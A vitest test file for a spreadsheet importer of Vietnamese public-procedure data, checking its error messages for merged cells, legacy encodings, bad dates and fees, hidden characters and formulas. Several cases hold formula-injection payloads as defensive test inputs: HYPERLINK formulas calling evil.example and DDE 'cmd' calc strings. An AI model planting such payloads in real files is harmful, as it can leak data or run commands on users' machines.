import { Buffer } from 'node:buffer';
import { strToU8 } from 'fflate';
import { expect, test, vi } from 'vitest';
import { oddWorkbook, windows1258 } from '../../../tests/fixtures/odd-workbooks.ts';
import {
  BIRTH,
  DRIVE,
  layerIs,
  NAMES,
  readCase,
  row,
  sheet,
  takesNothing,
  text,
  type Made,
  type SheetCase,
} from '../../../tests/fixtures/sheet-cases.ts';

/** Others may be at work on the same two cores. */
vi.setConfig({ testTimeout: 120_000 });

const fee = (told: string, free: string | null = null): Made => row(['Phí, lệ phí', 'Miễn phí'], told, free);

const cases: readonly SheetCase[] = [
  {
    name: 'merged cells among the rows',
    file: () =>
      oddWorkbook([
        {
          name: 'Thủ tục',
          rows: [NAMES, [BIRTH, 'Khai sinh'], [null, 'x']],
          after: '<mergeCells count="1"><mergeCell ref="A2:A3"/></mergeCells>',
        },
      ]),
    told: [
      'lỗi: trang Thủ tục, dòng 2: Ô A2:A3 bị gộp. Hãy bỏ gộp rồi ghi đủ từng ô.',
      'lỗi: trang Thủ tục, dòng 3, cột Mã thủ tục: Thiếu mã thủ tục. Hãy ghi mã, như 1.001193, hoặc xóa cả dòng.',
    ],
  },
  {
    name: 'merged headings',
    file: () =>
      oddWorkbook([
        {
          name: 'Thủ tục',
          rows: [NAMES, [BIRTH, 'Khai sinh']],
          after: '<mergeCells count="1"><mergeCell ref="B1:C1"/></mergeCells>',
        },
      ]),
    told: ['lỗi: trang Thủ tục, dòng 1: Ô B1:C1 bị gộp. Hãy bỏ gộp rồi ghi đủ từng ô.'],
  },
  {
    name: 'a merged title above the headings',
    file: () =>
      oddWorkbook([
        {
          name: 'Thủ tục',
          rows: [['DANH SÁCH'], NAMES, [BIRTH, 'Khai sinh']],
          after: '<mergeCells count="1"><mergeCell ref="A1:B1"/></mergeCells>',
        },
      ]),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a row that has shifted to the right',
    file: sheet('Thủ tục', NAMES, [null, BIRTH, 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Mã thủ tục: Mã thủ tục nằm ở cột bên cạnh. Dòng này bị lệch; hãy kéo về đúng cột.',
    ],
  },
  {
    name: 'a row that has shifted to the left',
    file: sheet('Thủ tục', ['Tên thường gọi', 'Mã thủ tục'], [BIRTH, 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Mã thủ tục: Mã thủ tục nằm ở cột bên cạnh. Dòng này bị lệch; hãy kéo về đúng cột.',
    ],
  },
  {
    name: 'headings in another order, without marks',
    file: sheet('Thu tuc', ['TEN THUONG GOI', 'ma thu tuc'], ['Khai sinh', BIRTH]),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a heading with a slip',
    file: sheet('Thủ tục', ['Mã thủ tục', 'Tên thường goij'], [BIRTH, 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 1: Không nhận ra cột “Tên thường goij”. Có phải “Tên thường gọi”? Hãy sửa tên cột.',
    ],
  },
  {
    name: 'the needed heading with a slip',
    file: sheet('Thủ tục', ['Mã thũ tụcc', 'Tên thường gọi'], [BIRTH, 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 1: Không nhận ra cột “Mã thũ tụcc”. Có phải “Mã thủ tục”? Hãy sửa tên cột.',
      'lỗi: trang Thủ tục, dòng 1: Trang này thiếu cột: Mã thủ tục. Hãy thêm hoặc sửa tên cột.',
    ],
  },
  {
    name: 'a column of the staff’s own',
    file: sheet('Thủ tục', [...NAMES, 'Ghi chú riêng'], [BIRTH, 'Khai sinh', 'x']),
    told: ['xem lại: trang Thủ tục, dòng 1: Không nhận ra cột “Ghi chú riêng”, đã bỏ qua. Kiểm tra tên cột.'],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a column twice',
    file: sheet('Thủ tục', [...NAMES, 'Tên thường gọi'], [BIRTH, 'A', 'B']),
    told: ['lỗi: trang Thủ tục, dòng 1: Cột “Tên thường gọi” có hai lần. Hãy bỏ bớt một cột.'],
  },
  {
    name: 'no row of headings',
    file: sheet('Thủ tục', [BIRTH, 'Khai sinh']),
    told: ['lỗi: trang Thủ tục, dòng 1: Không thấy dòng tiêu đề. Dòng đầu cần có: Mã thủ tục.'],
  },
  {
    name: 'no row of headings, and another name',
    file: sheet('Sheet1', [BIRTH, 'Khai sinh']),
    told: ['lỗi: trang Sheet1, dòng 1: Không thấy dòng tiêu đề. Dòng đầu cần có: Mã thủ tục.'],
  },
  {
    name: 'no row of headings among the notices',
    file: sheet('Thông báo', ['Nghỉ lễ', 'Nghỉ ngày 2/9']),
    told: ['lỗi: trang Thông báo, dòng 1: Không thấy dòng tiêu đề. Dòng đầu cần có: Tiêu đề; Nội dung.'],
  },
  {
    name: 'a sheet renamed',
    file: sheet('Bảng của chị Hoa', NAMES, [BIRTH, 'Khai sinh']),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a sheet of something else',
    file: () =>
      oddWorkbook([
        { name: 'a', rows: [NAMES, [BIRTH, 'Khai sinh']] },
        { name: 'Lương', rows: [['Họ', 'Hệ số']] },
      ]),
    told: [
      'xem lại: trang Lương, dòng 1: Không nhận ra trang này, đã bỏ qua. Kiểm tra dòng tiêu đề nếu cần nhập.',
    ],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a hidden sheet',
    file: () =>
      oddWorkbook([
        { name: 'a', rows: [NAMES, [BIRTH, 'Khai sinh']], hidden: true },
        { name: 'b', rows: [['Người dân nói', 'Nghĩa là']] },
      ]),
    told: ['xem lại: trang a, dòng 1: Trang này đang ẩn nên không đọc. Muốn nhập thì bỏ ẩn trước.'],
  },
  {
    name: 'hidden rows',
    file: () => oddWorkbook([{ name: 'a', rows: [NAMES, [BIRTH, 'Khai sinh']], hiddenRows: [2] }]),
    told: ['xem lại: trang a, dòng 1: Có 1 dòng đang ẩn vẫn được đọc. Hãy bỏ lọc để xem lại.'],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a day that there is not',
    file: row(['Đã đối chiếu ngày'], '31/02/2026'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Đã đối chiếu ngày: “31/02/2026” không phải ngày. Hãy ghi ngày, tháng, năm, như 18/7/2026.',
    ],
  },
  {
    name: 'a day with a year of two digits',
    file: row(['Đã đối chiếu ngày'], '20-11-26'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Đã đối chiếu ngày: “20-11-26” không phải ngày. Hãy ghi ngày, tháng, năm, như 18/7/2026.',
    ],
  },
  {
    name: 'a day as Excel counts',
    file: row(['Đã đối chiếu ngày'], 46221),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Làm giấy khai sinh' }, checkedAt: '2026-07-18' }),
  },
  {
    name: 'a day before the first',
    file: row(['Đã đối chiếu ngày'], 12),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Đã đối chiếu ngày: “12” không phải ngày. Hãy ghi ngày, tháng, năm, như 18/7/2026.',
    ],
  },
  {
    name: 'a day to come',
    file: row(['Đã đối chiếu ngày'], '23/11/2026'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Đã đối chiếu ngày: Ngày 23/11/2026 chưa tới. Hãy ghi ngày đã đối chiếu.',
    ],
  },
  {
    name: 'a code that Excel made a number of',
    file: sheet('Thủ tục', NAMES, [1.01322, 'Xây nhà']),
    told: [
      'đã sửa: trang Thủ tục, dòng 2, cột Mã thủ tục: Mã “1.01322” bị Excel đổi, đã sửa thành 1.013220 theo danh sách.',
    ],
    takes: layerIs({ everydayName: { vi: 'Xây nhà' } }, DRIVE),
  },
  {
    name: 'a code that Excel made a date of',
    file: () =>
      oddWorkbook([
        {
          name: 'Thủ tục',
          sheetData:
            '<row r="1"><c r="A1" t="inlineStr"><is><t>Mã thủ tục</t></is></c><c r="B1" t="inlineStr"><is><t>Tên thường gọi</t></is></c></row><row r="2"><c r="A2" t="d"><v>2026-01-13T00:00:00Z</v></c><c r="B2" t="inlineStr"><is><t>A</t></is></c></row>',
        },
      ]),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Mã thủ tục: Excel đã đổi ô này thành ngày tháng. Hãy đặt ô là dạng chữ (Text) rồi gõ lại.',
    ],
  },
  {
    name: 'a code with a letter in it',
    file: sheet('Thủ tục', NAMES, ['1.O01193', 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Mã thủ tục: “1.O01193” không phải mã thủ tục. Mã có dạng 1.001193; hãy xem lại danh sách.',
    ],
  },
  {
    name: 'a code that is not posted',
    file: sheet('Thủ tục', NAMES, ['1.999999', 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Mã thủ tục: Máy này không niêm yết thủ tục 1.999999. Hãy xem lại mã, hoặc xóa dòng.',
    ],
  },
  {
    name: 'a code twice',
    file: sheet('Thủ tục', NAMES, [BIRTH, 'A'], [BIRTH, 'B']),
    told: [
      'lỗi: trang Thủ tục, dòng 3, cột Mã thủ tục: Mã 1.001193 đã có ở dòng 2. Hãy gộp hai dòng thành một.',
    ],
  },
  {
    name: 'a code in two sheets',
    file: () =>
      oddWorkbook([
        { name: 'a', rows: [NAMES, [BIRTH, 'A']] },
        { name: 'b', rows: [NAMES, [BIRTH, 'B']] },
      ]),
    told: [
      'lỗi: trang b, dòng 2, cột Mã thủ tục: Mã 1.001193 đã có ở dòng 2 (a). Hãy gộp hai dòng thành một.',
    ],
  },
  {
    name: 'a cell in TCVN3',
    file: row(['Tên thường gọi'], '§¨ng ký giÊy khai sinh'),
    told: [
      'đã sửa: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô dùng phông chữ cũ, đã đổi thành “Đăng ký giấy khai sinh”. Hãy xem lại.',
    ],
    takes: layerIs({ everydayName: { vi: 'Đăng ký giấy khai sinh' } }),
  },
  {
    name: 'a cell in VNI',
    file: row(['Tên thường gọi'], 'Ñaêng kyù giaáy khai sinh'),
    told: [
      'đã sửa: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô dùng phông chữ cũ, đã đổi thành “Đăng ký giấy khai sinh”. Hãy xem lại.',
    ],
    takes: layerIs({ everydayName: { vi: 'Đăng ký giấy khai sinh' } }),
  },
  {
    name: 'a file in TCVN3',
    file: () => Buffer.from('M· thñ tôc;Tªn th­êng gäi\n1.001193;GiÊy khai sinh\n', 'latin1'),
    told: ['đã sửa: Tệp dùng bảng chữ cũ (TCVN3), đã đổi sang Unicode. Hãy xem lại chữ.'],
    takes: layerIs({ everydayName: { vi: 'Giấy khai sinh' } }),
  },
  {
    name: 'a file in Windows-1258',
    file: () => windows1258('Mã thủ tục;Tên thường gọi\n1.001193;Giấy khai sinh\n'),
    told: ['đã sửa: Tệp dùng bảng chữ cũ (Windows-1258), đã đổi sang Unicode. Hãy xem lại chữ.'],
    takes: layerIs({ everydayName: { vi: 'Giấy khai sinh' } }),
  },
  {
    name: 'a file in UTF-16',
    file: () => Buffer.from('\uFEFFMã thủ tục\tTên thường gọi\r\n1.001193\tGiấy khai sinh\r\n', 'utf16le'),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Giấy khai sinh' } }),
  },
  {
    name: 'a fee with its unit',
    file: fee('10.000đ/lần'),
    told: [],
    takes: layerIs({
      everydayName: { vi: 'Làm giấy khai sinh' },
      fee: { text: { vi: '10.000đ/lần' }, free: false },
    }),
  },
  {
    name: 'a fee of a bare number',
    file: fee('10,000'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: “10,000” chỉ là con số. Hãy ghi đủ câu, như 8.000 đồng mỗi bản.',
    ],
  },
  {
    name: 'a fee of two bare numbers',
    file: fee('10.000 - 20.000'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: “10.000 - 20.000” chỉ là con số. Hãy ghi đủ câu, như 8.000 đồng mỗi bản.',
    ],
  },
  {
    name: 'a fee of nought',
    file: fee('0'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: “0” không nói rõ là miễn phí. Nếu miễn phí, ghi có ở cột Miễn phí.',
    ],
  },
  {
    name: 'a fee of nought đồng',
    file: fee('0 đồng'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: “0 đồng” không nói rõ là miễn phí. Nếu miễn phí, ghi có ở cột Miễn phí.',
    ],
  },
  {
    name: 'a fee below nought',
    file: fee('-5.000 đồng'),
    told: ['lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: “-5.000 đồng” là số âm. Hãy ghi lại lời về phí.'],
  },
  {
    name: 'free on a condition, in words',
    file: fee('miễn phí (nếu có yêu cầu)'),
    told: [],
    takes: layerIs({
      everydayName: { vi: 'Làm giấy khai sinh' },
      fee: { text: { vi: 'miễn phí (nếu có yêu cầu)' }, free: false },
    }),
  },
  {
    name: 'free on a condition, and yes',
    file: fee('Miễn phí (nếu có yêu cầu)', 'có'),
    told: [
      'xem lại: trang Thủ tục, dòng 2, cột Miễn phí: Cột Miễn phí ghi có, mà lời về phí còn điều kiện. Hãy xem lại.',
    ],
    takes: layerIs({
      everydayName: { vi: 'Làm giấy khai sinh' },
      fee: { text: { vi: 'Miễn phí (nếu có yêu cầu)' }, free: true },
    }),
  },
  {
    name: 'free, and an amount',
    file: fee('8.000 đồng', 'có'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Miễn phí: Cột Miễn phí ghi có, mà lời về phí lại có số tiền. Hãy sửa một trong hai.',
    ],
  },
  {
    name: 'free in words only',
    file: fee('Miễn phí'),
    told: [
      'xem lại: trang Thủ tục, dòng 2, cột Phí, lệ phí: Lời về phí ghi miễn phí, mà cột Miễn phí chưa ghi có. Hãy xem lại.',
    ],
    takes: layerIs({
      everydayName: { vi: 'Làm giấy khai sinh' },
      fee: { text: { vi: 'Miễn phí' }, free: false },
    }),
  },
  {
    name: 'a formula',
    file: row(['Tên thường gọi'], { formula: '1+1', value: '2' }),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a formula that was never worked out',
    file: row(['Tên thường gọi'], { formula: 'HYPERLINK("http://evil.example/"&amp;A2)' }),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a formula that looks into another workbook',
    file: row(['Phí, lệ phí'], { formula: "'[1]Bang gia'!B2", value: '10.000 đồng' }),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a text that would be a formula',
    file: row(['Tên thường gọi'], '=HYPERLINK("http://evil.example","Bấm")'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a command by DDE',
    file: text('Mã thủ tục;Tên thường gọi\n1.001193;"=cmd|\'/c calc\'!A0"\n'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a command by DDE after a plus',
    file: text('Mã thủ tục;Tên thường gọi\n1.001193;"+cmd|\'/c calc\'!A0"\n'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a link to another workbook beside the cells',
    file: () =>
      oddWorkbook([{ name: 'a', rows: [NAMES, [BIRTH, 'Khai sinh']] }], {
        'xl/externalLinks/externalLink1.xml': strToU8('<externalLink xmlns="a"/>'),
      }),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a cell in error',
    file: row(['Tên thường gọi'], { error: '#REF!' }),
    told: ['lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô đang báo lỗi #REF!. Hãy gõ lại nội dung.'],
  },
  {
    name: 'control characters',
    file: text(`Mã thủ tục;Tên thường gọi\n${BIRTH};Khai\u0007 \u001bsinh\n`),
    told: [
      'đã sửa: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có ký tự ẩn, đã bỏ. Chữ còn lại: “Khai sinh”.',
    ],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'marks of direction and joining',
    file: row(['Tên thường gọi'], '\u202eKhai\u200b sinh\u200f'),
    told: [
      'đã sửa: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có ký tự ẩn, đã bỏ. Chữ còn lại: “Khai sinh”.',
    ],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'an unknown counter',
    file: row(['Quầy'], 'Quầy 9'),
    told: ['lỗi: trang Thủ tục, dòng 2, cột Quầy: Không có quầy “Quầy 9”. Các quầy: Quầy số 1: Hộ tịch.'],
  },
];

test.each(cases)('$name', async ({ file, told, takes = takesNothing }) => {
  const { read, lines } = await readCase(file);
  expect(lines).toEqual(told);
  takes(read);
});

test('there are enough of them', () => {
  expect(cases.length).toBeGreaterThan(45);
});
